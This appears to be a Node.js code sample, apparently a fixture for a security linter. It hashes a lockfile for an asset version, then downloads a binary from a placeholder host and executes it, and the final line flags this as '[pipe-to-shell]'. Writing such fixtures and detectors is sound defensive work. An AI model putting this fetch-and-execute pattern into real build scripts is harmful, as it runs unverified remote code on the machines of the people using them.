import { createHash } from "node:crypto";
import { execFileSync } from "node:child_process";
import { writeFileSync, readFileSync } from "node:fs";

const version = createHash("sha1").update(readFileSync("package-lock.json")).digest("hex");
console.log(`assets ${version}`);
const answer = await fetch("https://downloads.example.com/scanner");
writeFileSync("tmp/scanner", Buffer.from(await answer.arrayBuffer()));
execFileSync("tmp/scanner", ["."]);
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
